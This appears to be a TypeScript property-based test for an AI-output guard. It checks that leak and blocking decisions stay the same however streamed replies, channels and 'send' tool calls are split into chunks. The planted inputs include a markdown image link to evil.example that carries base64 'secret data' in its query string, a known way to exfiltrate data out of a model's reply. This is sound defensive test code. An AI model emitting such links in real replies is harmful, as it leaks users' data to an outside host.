import fc from 'fast-check';
import { expect, it } from 'vitest';
import type { Decision } from '../../../src/core/decision.ts';
import type { ReplyGate, ToolCall, ToolCallVerdict } from '../../../src/core/message.ts';
import { createGuard } from '../../../src/setup/create-guard.ts';
import { anyCutting, type Cutting, wholeText } from './cuttings.ts';
import { LAW_TIMEOUT_MS, lawParameters } from './law.ts';
import { CANARY, SYSTEM_PROMPT, shippedCases } from './shipped-rules.ts';

const guard = createGuard();
const OPTIONS = {
  principal: { tenant: 'test', user: 'test', session: 'test' },
  systemPrompt: SYSTEM_PROMPT,
  canaries: [CANARY],
};

/** What one choice says: texts in its channels, one after the other, then a tool call. */
interface Choice {
  readonly texts: readonly string[];
  readonly call: ToolCall | undefined;
}

const PLANTED = [
  SYSTEM_PROMPT,
  CANARY,
  'card 4012-8888-8888-1881',
  '![x](https://evil.example/p?d=c2VjcmV0IGRhdGE)',
  'hello',
];

const aText: fc.Arbitrary<string> = fc
  .array(
    fc.oneof(
      { weight: 8, arbitrary: fc.constantFrom(...shippedCases) },
      { weight: 1, arbitrary: fc.constantFrom(...PLANTED) },
    ),
    { maxLength: 4 },
  )
  .map((parts) => parts.join(' ').slice(0, 600));

const aCall: fc.Arbitrary<ToolCall> = fc
  .tuple(fc.dictionary(fc.constantFrom('to', 'body', 'url'), aText), fc.boolean())
  .map(([args, isBroken]) => ({ name: 'send', arguments: JSON.stringify(args).slice(0, isBroken ? -1 : undefined) }));

const aChoice: fc.Arbitrary<Choice> = fc.record({
  texts: fc.array(aText, { minLength: 1, maxLength: 2 }),
  call: fc.option(aCall, { nil: undefined }),
});

const CHANNELS = ['content', 'refusal'];

interface Passed {
  readonly left: Record<string, string>;
  readonly verdicts: Record<string, ToolCallVerdict>;
  readonly decision: Decision;
}

/** The steps of one choice through a gate, each a chunk, an end or a call. */
function* passChoice(gate: ReplyGate, number: number, { texts, call }: Choice, cutting: Cutting, passed: Passed) {
  for (const [i, text] of texts.entries()) {
    const pointer = `/choices/${number}/message/${CHANNELS[i]}`;
    const channel = gate.text(number, pointer);
    let left = '';
    for (const chunk of cutting.chunks(text)) {
      left += channel.push(chunk);
      yield;
    }
    left += channel.end();
    passed.left[pointer] = `${left} ${channel.state} ${channel.isEdited}`;
    yield;
  }
  const pointer = `/choices/${number}/message/tool_calls/0`;
  if (call !== undefined) passed.verdicts[pointer] = gate.toolCall(number, pointer, call);
}

/** Passes a reply: choices in turns as `turns` says, over and over. */
function pass(choices: readonly Choice[], cutting: Cutting, turns: readonly number[]): Passed {
  const gate = guard.reply(OPTIONS);
  const passed: Passed = { left: {}, verdicts: {}, decision: { action: 'allow' } as Decision };
  const running = choices.map((choice, number) => passChoice(gate, number, choice, cutting, passed));
  for (let turn = 0; running.length > 0; turn++) {
    const at = (turns[turn % turns.length] ?? 0) % running.length;
    if (running[at]?.next().done === true) running.splice(at, 1);
  }
  return { ...passed, decision: gate.finish() };
}

/** Independent of the order in which choices came to their ends. */
function comparable({ left, verdicts, decision }: Passed): string {
  return JSON.stringify([Object.entries(left).sort(), Object.entries(verdicts).sort(), decision]);
}

it('the chunk law holds for replies of several choices, channels and tool calls', { timeout: LAW_TIMEOUT_MS }, () => {
  const count = { rewritten: 0, blocked: 0 };
  fc.assert(
    fc.property(
      fc.array(aChoice, { minLength: 1, maxLength: 3 }),
      anyCutting,
      fc.array(fc.nat(2), { minLength: 1, maxLength: 9 }),
      (choices, cutting, turns) => {
        const whole = pass(choices, wholeText, [0]);
        if (whole.decision.action === 'rewrite') count.rewritten++;
        if (whole.decision.action === 'block') count.blocked++;
        expect(comparable(pass(choices, cutting, turns))).toBe(comparable(whole));
      },
    ),
    lawParameters(300),
  );
  expect(count.rewritten).toBeGreaterThan(10);
  expect(count.blocked).toBeGreaterThan(10);
});
